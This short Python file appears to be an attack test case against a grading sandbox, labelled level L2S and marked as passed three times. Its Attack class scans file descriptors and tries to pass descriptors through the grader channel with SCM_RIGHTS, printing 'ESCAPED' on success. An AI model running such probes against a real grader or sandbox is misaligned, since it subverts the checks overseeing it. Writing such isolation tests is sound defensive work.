# It uses the channel to the grader as a socket: to pass descriptors, and to shut it down.
# level: L2S
# verdicts: passed passed passed

import os
import socket


class Attack(Honest):
    def strike(self, parent, child):
        for descriptor in range(3, 64):
            try:
                channel = socket.socket(fileno=os.dup(descriptor))
                channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, b"\0" * 4)])
                print("ESCAPED: passed a descriptor")
            except OSError:
                pass
